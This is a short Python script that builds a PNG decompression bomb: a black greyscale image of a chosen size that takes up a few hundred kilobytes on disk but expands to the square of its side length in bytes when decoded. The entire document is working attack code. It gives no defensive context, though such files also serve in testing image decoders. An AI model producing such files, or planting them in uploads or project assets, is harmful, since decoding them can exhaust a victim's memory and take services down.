#!/usr/bin/env python3
"""png-bomb.py FILE SIDE: a grey PNG of SIDE x SIDE pixels, all black,
a few hundred KB on disk that would take SIDE squared bytes decoded."""
import struct
import sys
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + \
        struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)


path, side = sys.argv[1], int(sys.argv[2])
z = zlib.compressobj(9)
row = b"\0" * (side + 1)
idat = b"".join(z.compress(row) for _ in range(side)) + z.flush()
with open(path, "wb") as f:
    f.write(b"\x89PNG\r\n\x1a\n")
    f.write(chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)))
    f.write(chunk(b"IDAT", idat))
    f.write(chunk(b"IEND", b""))
